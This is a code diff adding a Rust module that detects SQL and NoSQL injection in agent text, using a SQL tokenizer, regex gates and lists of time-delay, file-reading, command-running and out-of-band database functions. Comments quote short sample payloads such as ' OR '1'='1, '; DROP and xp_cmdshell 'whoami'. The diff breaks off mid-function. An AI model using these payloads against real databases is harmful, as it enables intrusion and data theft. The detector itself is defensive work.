@@ -1,17 +1,2112 @@
-//! SQL injection: a SQL tokenizer over the text, then tautologies, UNION
-//! reads, stacked statements, blind and out-of-band functions, and NoSQL
-//! operator injection.
+//! SQL injection: the `sqlparser` tokenizer over the text, then tautologies,
+//! UNION reads, stacked statements, blind and out-of-band functions, and
+//! NoSQL operator injection.
+//!
+//! A string is read in one of two modes:
+//! - a *whole statement* (it starts with `SELECT`, `WITH`, `INSERT`...): the
+//!   agent writes SQL to a database tool. Comments, `UNION ALL`, CTEs and
+//!   `WHERE 1=1` are normal there; only what legitimate work never does is
+//!   flagged (sleep and benchmark functions, file and out-of-band functions,
+//!   a destructive statement stacked after a read, a quoted-literal
+//!   tautology, keywords split by comments).
+//! - a *value* (a name, an id, a search box, a filter value): the text is
+//!   tokenized as it stands (a number context), and again as if an opening
+//!   single or double quote preceded it (the string context a value is pasted
+//!   into). SQL right after the point where the value breaks out of its
+//!   literal (`' OR '1'='1`, `1 UNION SELECT`, `admin'--`, `'; DROP`) is
+//!   injection.
+//!
+//! A statement must have a statement's grammar (or parse) outside a SQL
+//! field; in a SQL field (`q`, `query`) a short text that does not parse is
+//! read both ways (search boxes are often named `q`). A URL's query
+//! parameters are values of their own.
+//!
+//! NoSQL: operator objects written as text under a credential field
+//! (`"password": {"$ne": null}`), `user[$ne]=` query strings, `$where`
+//! JavaScript, match-anything or enumerating `$regex` values, an empty `$gt`;
+//! operator keys by themselves are weak evidence (their parent field is
+//! read from `field` when the walker provides it) except for login tools.
+//!
+//! Cost: regex gates (finite automata) decide whether any tokenization is
+//! needed (most prose is never tokenized), values are tokenized up to 8 KiB
+//! and statements up to 64 KiB, every scan moves forward, the parser runs at
+//! most once per value (a `UNION SELECT` in prose) and with a recursion
+//! limit. Long prose documents and multi-line source code are not analyzed.
 
-use super::{Hit, Subject};
+use std::ops::Range;
+use std::sync::LazyLock;
+
+use regex::Regex;
+use regex::bytes::Regex as BytesRegex;
+use sqlparser::ast::{SetExpr, Statement};
+use sqlparser::dialect::{Dialect, GenericDialect, MsSqlDialect, MySqlDialect, PostgreSqlDialect};
+use sqlparser::parser::Parser;
+use sqlparser::tokenizer::{Token, TokenWithSpan, Tokenizer, Whitespace};
+
+use super::{Confidence, Context, Family, Hit, Subject};
+
+/// Longest value tokenized in value mode (injected values are short).
+const MAX_VALUE: usize = 8 * 1024;
+/// Longest statement tokenized in statement mode.
+const MAX_STATEMENT: usize = 64 * 1024;
+/// Longest statement given to the parser by [`read_only`].
+const MAX_PARSE: usize = 64 * 1024;
+/// Parser recursion limit for [`read_only`] (the crate's default is 50).
+const RECURSION_LIMIT: usize = 40;
+
+/// What a token is, simplified for the rules.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// An unquoted word (keyword or identifier), upper-cased.
+    Word,
+    /// A quoted identifier (backticks, brackets, ANSI double quotes).
+    Ident,
+    /// A string literal (content as written).
+    Str,
+    /// A number.
+    Num,
+    /// An operator or other punctuation (`=`, `||`, `@`...).
+    Op,
+    /// `;`
+    Semi,
+    /// `(`
+    LParen,
+    /// `)`
+    RParen,
+    /// `,`
+    Comma,
+    /// `.`
+    Period,
+    /// A comment (text without its delimiters).
+    Comment,
+}
+
+/// One token: kind, text (upper-cased for words), byte range in the subject.
+#[derive(Debug, Clone)]
+struct Tok {
+    kind: Kind,
+    text: String,
+    at: Range<usize>,
+}
+
+impl Tok {
+    /// This unquoted word.
+    fn is(&self, word: &str) -> bool {
+        self.kind == Kind::Word && self.text == word
+    }
+    /// One of these unquoted words.
+    fn is_any(&self, words: &[&str]) -> bool {
+        self.kind == Kind::Word && words.contains(&self.text.as_str())
+    }
+    /// This operator.
+    fn is_op(&self, op: &str) -> bool {
+        self.kind == Kind::Op && self.text == op
+    }
+    /// A string, a number, `TRUE`, `FALSE` or `NULL`.
+    fn literal(&self) -> bool {
+        matches!(self.kind, Kind::Str | Kind::Num) || self.is_any(&["TRUE", "FALSE", "NULL"])
+    }
+}
+
+/// Tokenizes `src` with `dialect`; byte ranges are shifted back by `skip`
+/// (a synthetic prefix) and clamped to `len`. A tokenizer error (an
+/// unterminated literal) keeps the tokens before it.
+fn lex(src: &str, skip: usize, len: usize, dialect: &dyn Dialect) -> Vec<Tok> {
+    let mut buf: Vec<TokenWithSpan> = Vec::new();
+    let _partial = Tokenizer::new(dialect, src).with_unescape(false).tokenize_with_location_into_buf(&mut buf);
+    // Line/column locations to byte offsets, advancing one cursor (tokens come in order).
+    let mut chars = src.char_indices().peekable();
+    let (mut line, mut col) = (1u64, 1u64);
+    let mut to_byte = |l: u64, c: u64| -> usize {
+        while (line, col) < (l, c) {
+            match chars.next() {
+                Some((_, '\n')) => {
+                    line += 1;
+                    col = 1;
+                }
+                Some(_) => col += 1,
+                None => return src.len(),
+            }
+        }
+        chars.peek().map_or(src.len(), |(i, _)| *i)
+    };
+    let mut out: Vec<Tok> = Vec::with_capacity(buf.len());
+    let mut dash_end = 0usize;
+    for t in buf {
+        let start = to_byte(t.span.start.line, t.span.start.column);
+        let end = to_byte(t.span.end.line, t.span.end.column).max(start);
+        let at = start.saturating_sub(skip).min(len)..end.saturating_sub(skip).min(len);
+        let (kind, text) = match t.token {
+            Token::EOF => continue,
+            Token::Whitespace(Whitespace::SingleLineComment { comment, .. }) => (Kind::Comment, comment),
+            Token::Whitespace(Whitespace::MultiLineComment(c)) => (Kind::Comment, c),
+            Token::Whitespace(_) => continue,
+            Token::Word(w) if w.quote_style.is_none() => (Kind::Word, w.value.to_ascii_uppercase()),
+            Token::Word(w) => (Kind::Ident, w.value),
+            Token::Number(n, _) => (Kind::Num, n),
+            Token::SingleQuotedString(s)
+            | Token::DoubleQuotedString(s)
+            | Token::NationalStringLiteral(s)
+            | Token::EscapedStringLiteral(s)
+            | Token::HexStringLiteral(s)
+            | Token::SingleQuotedByteStringLiteral(s)
+            | Token::DoubleQuotedByteStringLiteral(s)
+            | Token::UnicodeStringLiteral(s) => (Kind::Str, s),
+            Token::DollarQuotedString(d) => (Kind::Str, d.value),
+            Token::SemiColon => (Kind::Semi, String::new()),
+            Token::LParen => (Kind::LParen, String::new()),
+            Token::RParen => (Kind::RParen, String::new()),
+            Token::Comma => (Kind::Comma, String::new()),
+            Token::Period => (Kind::Period, String::new()),
+            other => (Kind::Op, other.to_string()),
+        };
+        if start < dash_end {
+            continue;
+        }
+        // `--` right before the end or a quote is a comment to the engines
+        // that do not require a space after it (MySQL's tokenizer does).
+        if kind == Kind::Op
+            && text == "-"
+            && start > 0
+            && src.as_bytes().get(start - 1) == Some(&b'-')
+            && let Some(prev) = out.last_mut().filter(|p| p.kind == Kind::Op && p.text == "-")
+        {
+            prev.kind = Kind::Comment;
+            dash_end = src.get(start..).and_then(|r| r.find('\n')).map_or(src.len(), |n| start + n);
+            prev.text = src.get(start + 1..dash_end).unwrap_or("").to_owned();
+            prev.at.end = at.end;
+            continue;
+        }
+        out.push(Tok { kind, text, at });
+    }
+    out
+}
+
+/// Keywords a comment may split (`UN/**/ION`) or a versioned comment may hide.
+const SPLIT_KEYWORDS: &[&str] = &[
+    "UNION",
+    "SELECT",
+    "FROM",
+    "WHERE",
+    "AND",
+    "OR",
+    "INSERT",
+    "UPDATE",
+    "DELETE",
+    "DROP",
+    "SLEEP",
+    "BENCHMARK",
+    "CONCAT",
+    "GROUP_CONCAT",
+    "INFORMATION_SCHEMA",
+    "ORDER",
+    "EXEC",
+    "EXECUTE",
+    "WAITFOR",
+    "DELAY",
+    "CHAR",
+    "ASCII",
+    "SUBSTRING",
+    "LOAD_FILE",
+    "OUTFILE",
+    "TABLE",
+    "NULL",
+    "VERSION",
+    "DATABASE",
+    "USER",
+    "HAVING",
+    "LIMIT",
+    "INTO",
+    "CAST",
+];
+
+/// Removes comments that split a word (`UN/**/ION` becomes `UNION`) and
+/// opens MySQL versioned comments (`/*!50000UNION*/` becomes ` UNION `).
+/// Returns the rewritten text (or `None` when there is nothing to do) and
+/// the hits the rewriting itself is evidence of.
+fn uncomment(text: &str, out: &mut Vec<(Confidence, &'static str, Range<usize>)>) -> Option<String> {
+    if !text.contains("/*") {
+        return None;
+    }
+    let b = text.as_bytes();
+    let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
+    let mut res = String::with_capacity(text.len());
+    let mut i = 0;
+    let mut changed = false;
+    // Both searches move forward only: linear in the text.
+    while let Some(p) = text.get(i..).and_then(|t| t.find("/*")) {
+        let open = i + p;
+        let Some(q) = text.get(open + 2..).and_then(|t| t.find("*/")) else { break };
+        let close = open + 2 + q + 2;
+        let inner = text.get(open + 2..close - 2).unwrap_or("");
+        res.push_str(text.get(i..open).unwrap_or(""));
+        if let Some(v) = inner.strip_prefix('!') {
+            let body = v.trim_start_matches(|c: char| c.is_ascii_digit());
+            let upper = body.to_ascii_uppercase();
+            if upper.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).any(|w| SPLIT_KEYWORDS.contains(&w)) {
+                out.push((Confidence::High, "sql.versioned-comment", open..close));
+            }
+            res.push(' ');
+            res.push_str(body);
+            res.push(' ');
+            changed = true;
+        } else if open > 0 && b.get(open - 1).is_some_and(|c| word(*c)) && b.get(close).is_some_and(|c| word(*c)) {
+            // Joined word: the word part before and after the comment.
+            // (Keywords are short: at most 24 bytes on each side are looked at.)
+            let r = res.as_bytes();
+            let left = r.iter().rev().take(24).take_while(|c| word(**c)).count();
+            let right = b.get(close..).unwrap_or(&[]).iter().take(24).take_while(|c| word(**c)).count();
+            let mut joined = Vec::with_capacity(left + right);
+            joined.extend_from_slice(r.get(r.len() - left..).unwrap_or(&[]));
+            joined.extend_from_slice(b.get(close..close + right).unwrap_or(&[]));
+            joined.make_ascii_uppercase();
+            if SPLIT_KEYWORDS.iter().any(|k| k.as_bytes() == joined.as_slice()) {
+                out.push((Confidence::High, "sql.comment-split-keyword", open..close));
+            }
+            changed = true;
+        } else {
+            res.push_str(text.get(open..close).unwrap_or(""));
+        }
+        i = close;
+    }
+    res.push_str(text.get(i..).unwrap_or(""));
+    changed.then_some(res)
+}
+
+/// Whether the text may hold anything a value-mode rule looks for.
+static VALUE_TRIGGER: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
+    BytesRegex::new(
+        r#"(?i-u)['"`;#]|--|/\*|\|\||@@|union\s*(?:all|distinct)?\s*\(?\s*select|\b(?:union|sleep|benchmark|waitfor|xp_[a-z]+|sp_oa[a-z]+|load_file|outfile|dumpfile|utl_[a-z]+|dbms_[a-z]+|pg_[a-z_]+|lo_import|lo_export|extractvalue|updatexml|randomblob|sys_eval|sys_exec|openrowset|opendatasource|information_schema|httpuritype)\b|\b(?:or|and|xor|having|by|limit|like|rlike|regexp)\s*[-(\d!@]|\(\s*select\b|\b(?:or|and|xor)\s+(?:true|not|exists|ascii|substr\w*|mid|ord|if|iif|case|sleep|char|select)\b"#,
+    )
+    .ok()
+});
+
+/// Function and procedure names of the time, file and network rules.
+static DANGER: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
+    BytesRegex::new(
+        // (No word boundaries: a gate may over-match, and plain literals let the
+        // regex engine search with a fast prefilter.)
+        r"(?i-u)sleep|benchmark|waitfor|xp_|sp_oa|sp_execute_external_script|load_file|outfile|dumpfile|utl_|dbms_|pg_read_|pg_ls_dir|pg_stat_file|lo_import|lo_export|extractvalue|updatexml|gtid_|randomblob|sys_eval|sys_exec|openrowset|opendatasource|openquery|dblink|load_extension|httpuritype|ctxsys|copy|fn_",
+    )
+    .ok()
+});
+/// A value that starts like `1 OR`, `5) AND`, `id;`, or holds `UNION` or `;`.
+static BARE_HEAD: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
+    BytesRegex::new(r"(?i-u)^\s*-?\s*[\w.]+\s*\)*\s*(?:(?:or|xor|and|rlike|regexp|like|order|group|having)\b|\|\||&&)|union|;|@@").ok()
+});
+/// What may follow the quote a value breaks out of.
+static BREAK_HEAD: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
+    BytesRegex::new(r"(?i-u)^\s*\)*\s*(?:(?:or|and|xor|union|order|group|having|limit|procedure|into|waitfor|where|rlike|regexp|like)\b|[;#|&^+*=<>!/-])").ok()
+});
+
+/// Whether a text is worth any SQL analysis in statement mode.
+static STATEMENT_TRIGGER: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
+    BytesRegex::new(
+        r#"(?i-u)'\s*(?:--|\#)[^\n]*['"]|'\s*union\b|\b(?:and|or)\s+(?:ascii|ord|substr\w*|mid|length|if|iif|unicode|char|exists|hex)\s*\(|;\s*(?:drop|truncate|shutdown|exec|execute|grant|declare|waitfor|revoke|kill|reconfigure|alter|create|delete|update|insert|replace|merge|copy|set|load|call)\b|\b(?:or|xor)\s*\(*\s*(?:['"\d]|true\b|not\b)|\|\|\s*\(*\s*['"\d]|\bunion\s+(?:all\s+|distinct\s+)?\(?\s*select\s+(?:null|\d)|\bunion\s+(?:all\s+)?select\b[^;]{0,300}?\b(?:version|user|database|current_user|system_user|session_user|db_name|user_name|schema|current_database|banner)\b|@@|\b(?:sleep|benchmark|waitfor|xp_[a-z]+|sp_oa[a-z]+|sp_execute_external_script|load_file|outfile|dumpfile|utl_[a-z]+|dbms_[a-z]+|pg_sleep\w*|pg_read_[a-z_]+|pg_ls_dir|pg_stat_file|lo_import|lo_export|extractvalue|updatexml|gtid_\w+|randomblob|sys_eval|sys_exec|openrowset|opendatasource|openquery|dblink\w*|load_extension|program|httpuritype|fn_\w+)\b"#,
+    )
+    .ok()
+});
+
+/// NoSQL operator injection written as JSON text or a query string.
+static NOSQL_AUTH_JSON: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r#"(?i)["']?(?:user(?:_?name)?|login|e?mail|pass(?:word|wd)?|pwd|passcode|token|otp|pin|secret|auth\w*|session\w*|api_?key|role|is_?admin|account|uid)["']?\s*:\s*\{\s*["']?\$(?:ne|gt|gte|lt|lte|regex|exists|nin|in|not|where|expr|or|nor|eq)\b"#).ok()
+});
+/// `user[$ne]=` and friends in a query string.
+static NOSQL_BRACKET: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"(?i)(\w*)\]?\[\$(ne|gt|gte|lt|lte|regex|exists|nin|in|not|where|eq|expr|or|nor)\]").ok());
+/// A bare operator object in a string (`{"$ne": null}`).
+static NOSQL_OBJECT: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r#"^\s*\{\s*["']?\$(ne|gt|gte|lt|lte|regex|exists|nin|where|expr|or|nor|not)["']?\s*:"#).ok());
+/// A `$where` (or `$function`) clause with JavaScript in JSON text.
+static NOSQL_WHERE_JS: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r#"(?i)["']?\$(?:where|function|accumulator)["']?\s*:\s*["'{][^\n]{0,200}?(?:return|sleep\s*\(|this\.|while\s*\(|==|\|\||function\s*\()"#).ok()
+});
+/// JavaScript that a `$where` value should never hold.
+static JS_BAD: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i)\breturn\s+(?:true|1|!0)\b|\bsleep\s*\(\s*\d|\bwhile\s*\(\s*(?:true|1)\s*\)|\bthis\.(?:pass\w*|pwd|token|secret|username|user)|\|\||==|\bdb\.\w+\.|\bprocess\.|\brequire\s*\(").ok()
+});
+/// Field names that hold credentials or identities.
+static AUTH_FIELD: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)^(?:user(?:_?name)?|login|e?mail|pass(?:word|wd)?|pwd|passcode|token|otp|pin|secret|api_?key|role|is_?admin|account|uid)$",
+    )
+    .ok()
+});
+
+/// Whether a (compiled) regex matches; a regex that failed to compile matches nothing.
+fn matches(re: &LazyLock<Option<Regex>>, text: &str) -> bool {
+    re.as_ref().is_some_and(|r| r.is_match(text))
+}
 
 /// SQL findings in `s`.
-pub(crate) fn analyze(_s: &Subject<'_>, _out: &mut Vec<Hit>) {}
+pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
+    if s.text.is_empty() {
+        nosql_value(s, out);
+        return;
+    }
+    if s.context == Context::Key {
+        nosql_key(s, out);
+        return;
+    }
+    // Source code is judged by the code's own analyzers; a one-line `code`
+    // value (a product code) is a value.
+    if (s.context == Context::Code && (s.text.len() > 256 || s.text.contains('\n'))) || is_document(s) {
+        return;
+    }
+    nosql_text(s, out);
+    nosql_value(s, out);
+    if s.text.len() > MAX_STATEMENT {
+        return;
+    }
+    // A shell command's SQL (`psql -c "..."`, `mysql -e "..."`) is written by
+    // the agent like a query: only the calls no legitimate work makes.
+    if s.context == Context::Shell {
+        if DANGER.as_ref().is_some_and(|r| r.is_match(s.text.as_bytes())) {
+            let mut found = Vec::new();
+            let toks = lex(s.text, 0, s.text.len(), &GenericDialect {});
+            dangerous_calls(&toks, true, &mut found);
+            // The SQL inside the command's quoted arguments (one level).
+            for q in toks.iter().filter(|t| matches!(t.kind, Kind::Str | Kind::Ident) && t.text.len() > 8) {
+                let inner = lex(&q.text, 0, q.text.len(), &GenericDialect {});
+                let start = q.at.start;
+                let mut mine = Vec::new();
+                dangerous_calls(&inner, true, &mut mine);
+                found.extend(mine.into_iter().map(|(c, r, _)| (c, r, start..q.at.end)));
+            }
+            out.extend(found.into_iter().map(|(c, rule, at)| Hit::new(Family::SqlInjection, c, rule, at)));
+        }
+        return;
+    }
+    let mut found: Vec<(Confidence, &'static str, Range<usize>)> = Vec::new();
+    let rewritten = uncomment(s.text, &mut found);
+    let text = rewritten.as_deref().unwrap_or(s.text);
+    // Outside a SQL field a statement must have a statement's grammar or
+    // parse ("delete me' OR '1'='1" is a value; a statement only a decoding
+    // revealed must have the grammar); in a SQL field a short one that does
+    // not parse is read both ways.
+    let head = is_statement(text);
+    let statement = head && (s.context == Context::Sql || structured(text) || (!s.decoded && text.len() <= MAX_PARSE && parses(text)));
+    let also_value = statement && s.context == Context::Sql && text.len() < 120 && !structured(text) && !parses(text);
+    if statement && STATEMENT_TRIGGER.as_ref().is_some_and(|r| r.is_match(text.as_bytes())) {
+        statement_rules(text, s.text.len(), false, &mut found);
+    }
+    if (!statement || also_value) && text.len() <= MAX_VALUE && VALUE_TRIGGER.as_ref().is_some_and(|r| r.is_match(text.as_bytes())) {
+        value_rules(text, s.text.len(), s.context, &mut found);
+        if s.context == Context::Sql {
+            // A SQL fragment (`where`, `filter`, `sort`): statement rules too.
+            fragment_rules(text, s.text.len(), s.field, &mut found);
+        }
+    }
+    // A URL's query parameters are values of their own (`?id=1 OR 1=1`).
+    if !statement && text.len() <= MAX_VALUE && (s.context == Context::Url || text.contains("://")) {
+        query_values(text, &mut found);
+    }
+    // Split keywords are weaker evidence in a whole statement written by the agent.
+    for (c, rule, at) in found {
+        let c = if statement && rule == "sql.comment-split-keyword" { c.min(Confidence::Medium) } else { c };
+        out.push(Hit::new(Family::SqlInjection, c, rule, at));
+    }
+}
+
+/// A prose document (a message body, a page): not analyzed for SQL.
+fn is_document(s: &Subject<'_>) -> bool {
+    s.context == Context::Text && (s.text.len() > 600 || s.text.contains("```") || s.text.bytes().filter(|b| *b == b'\n').count() > 4)
+}
+
+/// Whether the text parses as SQL (MySQL or generic dialect, within the
+/// recursion limit).
+fn parses(text: &str) -> bool {
+    let dialects: [&dyn Dialect; 2] = [&GenericDialect {}, &MySqlDialect {}];
+    dialects
+        .iter()
+        .any(|d| Parser::new(*d).with_recursion_limit(RECURSION_LIMIT).try_with_sql(text).and_then(|mut p| p.parse_statements()).is_ok())
+}
+
+/// Whether the text starts with a statement's grammar (`DROP TABLE`,
+/// `DELETE FROM`, `UPDATE t SET`, `SELECT ... FROM`): a dialect the parser
+/// does not know is still SQL.
+fn structured(text: &str) -> bool {
+    let mut cut = text.len().min(400);
+    while !text.is_char_boundary(cut) {
+        cut -= 1;
+    }
+    let t = lex(text.get(..cut).unwrap_or(""), 0, cut, &GenericDialect {});
+    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment && x.kind != Kind::LParen).collect();
+    stacked(&sig, 0).is_some()
+        || sig.first().is_some_and(|x| x.is_any(&["WITH", "EXPLAIN", "SHOW", "VALUES", "BEGIN", "COMMIT", "PRAGMA", "VACUUM", "ANALYZE"]))
+}
+
+/// Statement heads of a whole SQL text.
+const STATEMENT_HEADS: &[&str] = &[
+    "SELECT",
+    "WITH",
+    "INSERT",
+    "UPDATE",
+    "DELETE",
+    "CREATE",
+    "ALTER",
+    "DROP",
+    "EXPLAIN",
+    "SHOW",
+    "VALUES",
+    "COPY",
+    "SET",
+    "BEGIN",
+    "MERGE",
+    "TRUNCATE",
+    "GRANT",
+    "REVOKE",
+    "DECLARE",
+    "EXEC",
+    "EXECUTE",
+    "CALL",
+    "USE",
+    "DESCRIBE",
+    "DESC",
+    "PRAGMA",
+    "REPLACE",
+    "UPSERT",
+    "LOCK",
+    "ANALYZE",
+    "VACUUM",
+    "COMMIT",
+    "START",
+    "REFRESH",
+    "COMMENT",
+    "RENAME",
+    "OPTIMIZE",
+    "CLUSTER",
+    "REINDEX",
+    "LOAD",
+    "UNLOAD",
+    "PREPARE",
+    "DO",
+    "SAVEPOINT",
+    "ROLLBACK",
+];
+
+/// Whether the text is a whole statement (its first word, past comments and
+/// parentheses, is a statement keyword followed by more SQL).
+fn is_statement(text: &str) -> bool {
+    let mut t = text.trim_start();
+    for _ in 0..64 {
+        if let Some(r) = t.strip_prefix("--") {
+            t = r.split_once('\n').map_or("", |(_, rest)| rest).trim_start();
+        } else if let Some(r) = t.strip_prefix('#') {
+            t = r.split_once('\n').map_or("", |(_, rest)| rest).trim_start();
+        } else if let Some(r) = t.strip_prefix("/*") {
+            t = r.split_once("*/").map_or("", |(_, rest)| rest).trim_start();
+        } else if let Some(r) = t.strip_prefix('(') {
+            t = r.trim_start();
+        } else {
+            break;
+        }
+    }
+    let word: String = t.chars().take_while(|c| c.is_ascii_alphabetic()).collect::<String>().to_ascii_uppercase();
+    if !STATEMENT_HEADS.contains(&word.as_str()) {
+        return false;
+    }
+    // "Select all users" is prose; "SELECT a FROM t" is SQL.
+    let rest = t.get(word.len()..).unwrap_or("");
+    (rest.is_empty() || rest.starts_with(|c: char| c.is_whitespace() || c == '*' || c == '(' || c == ';'))
+        && (word != "SELECT"
+            || rest.to_ascii_uppercase().contains("FROM")
+            || !rest.contains(|c: char| c.is_ascii_lowercase())
+            || rest.contains(['(', ',', '\'']))
+}
+
+/// Functions that wait: time-based blind injection.
+const SLEEP_FUNCS: &[&str] =
+    &["SLEEP", "PG_SLEEP", "PG_SLEEP_FOR", "BENCHMARK", "DBMS_LOCK.SLEEP", "DBMS_PIPE.RECEIVE_MESSAGE", "DBMS_SESSION.SLEEP"];
+/// Functions that read files, run commands or reach the network.
+const OOB_FUNCS: &[&str] = &[
+    "LOAD_FILE",
+    "XP_CMDSHELL",
+    "XP_DIRTREE",
+    "XP_FILEEXIST",
+    "XP_SUBDIRS",
+    "XP_REGREAD",
+    "XP_REGWRITE",
+    "XP_AVAILABLEMEDIA",
+    "SP_OACREATE",
+    "SP_OAMETHOD",
+    "SP_EXECUTE_EXTERNAL_SCRIPT",
+    "UTL_HTTP.REQUEST",
+    "UTL_HTTP.BEGIN_REQUEST",
+    "UTL_INADDR.GET_HOST_ADDRESS",
+    "UTL_INADDR.GET_HOST_NAME",
+    "UTL_TCP.OPEN_CONNECTION",
+    "UTL_FILE.FOPEN",
+    "DBMS_LDAP.INIT",
+    "HTTPURITYPE",
+    "DBMS_JAVA.RUNJAVA",
+    "DBMS_SCHEDULER.CREATE_JOB",
+    "PG_READ_FILE",
+    "PG_READ_BINARY_FILE",
+    "PG_LS_DIR",
+    "PG_STAT_FILE",
+    "LO_IMPORT",
+    "LO_EXPORT",
+    "SYS_EXEC",
+    "SYS_EVAL",
+    "OPENROWSET",
+    "OPENDATASOURCE",
+    "OPENQUERY",
+    "DBLINK",
+    "DBLINK_EXEC",
+    "LOAD_EXTENSION",
+    "FN_XE_FILE_TARGET_READ_FILE",
+    "FN_GET_AUDIT_FILE",
+    "FN_TRACE_GETTABLE",
+];
+/// Procedures run without parentheses (`EXEC master..xp_cmdshell 'whoami'`).
+const OOB_PROCS: &[&str] = &[
+    "XP_CMDSHELL",
+    "XP_DIRTREE",
+    "XP_FILEEXIST",
+    "XP_SUBDIRS",
+    "XP_REGREAD",
+    "XP_REGWRITE",
+    "SP_OACREATE",
+    "SP_OAMETHOD",
+    "SP_EXECUTE_EXTERNAL_SCRIPT",
+];
+/// Error-based extraction functions.
+const ERROR_FUNCS: &[&str] = &[
+    "EXTRACTVALUE",
+    "UPDATEXML",
+    "GTID_SUBSET",
+    "GTID_SUBTRACT",
+    "CTXSYS.DRITHSX.SN",
+    "DBMS_XDB_VERSION.CHECKIN",
+    "XMLTYPE",
+    "JSON_KEYS",
+    "ST_LATFROMGEOHASH",
+    "NAME_CONST",
+];
+/// Functions of boolean-blind probes and string building.
+const PROBE_FUNCS: &[&str] = &[
+    "ASCII",
+    "ORD",
+    "SUBSTRING",
+    "SUBSTR",
+    "MID",
+    "LENGTH",
+    "LEN",
+    "CHAR",
+    "CHR",
+    "NCHAR",
+    "CONCAT",
+    "CONCAT_WS",
+    "GROUP_CONCAT",
+    "STRING_AGG",
+    "HEX",
+    "UNHEX",
+    "IF",
+    "IIF",
+    "ELT",
+    "CAST",
+    "CONVERT",
+    "COUNT",
+    "EXISTS",
+    "VERSION",
+    "DATABASE",
+    "USER",
+    "CURRENT_USER",
+    "SYSTEM_USER",
+    "DB_NAME",
+    "USER_NAME",
+    "RAND",
+    "FLOOR",
+    "EXP",
+    "MAKE_SET",
+    "BIN",
+    "UNICODE",
+    "INSTR",
+    "LIKE",
+    "REGEXP_LIKE",
+    "SUBSTRB",
+    "UPPER",
+    "LOWER",
+    "REVERSE",
+    "LEFT",
+    "RIGHT",
+    "RANDOMBLOB",
+    "UTL_INADDR",
+    "SCHEMA",
+    "CURRENT_DATABASE",
+    "HOST_NAME",
+    "SUSER_NAME",
+    "IS_SRVROLEMEMBER",
+    "DB_ID",
+];
+/// Catalogs and variables that only reconnaissance reads from a value.
+const RECON: &[&str] = &[
+    "INFORMATION_SCHEMA",
+    "SYSOBJECTS",
+    "SYSCOLUMNS",
+    "SQLITE_MASTER",
+    "SQLITE_SCHEMA",
+    "PG_SHADOW",
+    "PG_USER",
+    "PG_DATABASE",
+    "ALL_TABLES",
+    "ALL_TAB_COLUMNS",
+    "USER_TABLES",
+    "DBA_USERS",
+    "SYS.DATABASES",
+    "MASTER..SYSDATABASES",
+    "MYSQL.USER",
+    "PG_CATALOG",
+    "V$VERSION",
+    "DUAL",
+];
+/// Statements an injected `;` starts.
+const STACKED_HEADS: &[&str] = &[
+    "DROP",
+    "DELETE",
+    "INSERT",
+    "UPDATE",
+    "EXEC",
+    "EXECUTE",
+    "DECLARE",
+    "SHUTDOWN",
+    "CREATE",
+    "ALTER",
+    "TRUNCATE",
+    "SELECT",
+    "WAITFOR",
+    "COPY",
+    "GRANT",
+    "REVOKE",
+    "SET",
+    "IF",
+    "BEGIN",
+    "CALL",
+    "LOAD",
+    "RENAME",
+    "REPLACE",
+    "MERGE",
+    "USE",
+    "KILL",
+    "BACKUP",
+    "RESTORE",
+    "RECONFIGURE",
+    "DBCC",
+    "ATTACH",
+    "PRAGMA",
+];
+/// JavaScript statement heads after a `;` (a `$where` break-out).
+const JS_HEADS: &[&str] = &["RETURN", "WHILE", "VAR", "LET", "CONST", "SLEEP", "THIS", "FOR", "DB", "FUNCTION"];
+/// Comparison operators.
+const CMP: &[&str] = &["=", "==", "<>", "!=", "<", ">", "<=", ">=", "<=>"];
+
+/// The function name at `i` (dotted names joined: `DBMS_PIPE.RECEIVE_MESSAGE`,
+/// `master..xp_cmdshell` ends in `XP_CMDSHELL`) and the index after it.
+fn name_at(t: &[Tok], i: usize) -> Option<(String, usize)> {
+    let first = t.get(i)?;
+    if first.kind != Kind::Word && first.kind != Kind::Ident {
+        return None;
+    }
+    let mut name = first.text.to_ascii_uppercase();
+    let mut j = i + 1;
+    loop {
+        let mut k = j;
+        let mut dots = 0;
+        while t.get(k).is_some_and(|x| x.kind == Kind::Period) {
+            k += 1;
+            dots += 1;
+        }
+        match t.get(k) {
+            Some(w) if dots > 0 && (w.kind == Kind::Word || w.kind == Kind::Ident) => {
+                name.push('.');
+                name.push_str(&w.text.to_ascii_uppercase());
+                j = k + 1;
+            }
+            _ => break,
+        }
+    }
+    Some((name, j))
+}
+
+/// The last part of a dotted name.
+fn last_part(name: &str) -> &str {
+    name.rsplit('.').next().unwrap_or(name)
+}
+
+/// Whether `name` is in `set` (whole, or by its last part for procedures).
+fn named(name: &str, set: &[&str]) -> bool {
+    set.contains(&name) || set.contains(&last_part(name))
+}
+
+/// Dangerous calls anywhere in the tokens: sleeps, file and network
+/// functions, command procedures, `INTO OUTFILE`, `COPY ... PROGRAM`,
+/// `WAITFOR DELAY`. `strict`: the text is not known to be SQL (a value), so
+/// words that are also English need SQL around them.
+fn dangerous_calls(t: &[Tok], strict: bool, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    let mut i = 0;
+    while i < t.len() {
+        let Some((name, j)) = name_at(t, i) else {
+            i += 1;
+            continue;
+        };
+        let call = t.get(j).is_some_and(|x| x.kind == Kind::LParen);
+        let arg = t.get(j + 1);
+        let at = t[i].at.start..t.get(j + 1).map_or(t[i].at.end, |x| x.at.end);
+        if call && named(&name, SLEEP_FUNCS) {
+            // `sleep (8 hours)` is prose; `SLEEP(5)`, `pg_sleep(10)`, `BENCHMARK(5000000,MD5(1))` are not.
+            let closed = t.get(j + 2).is_some_and(|c| matches!(c.kind, Kind::RParen | Kind::Comma | Kind::Op));
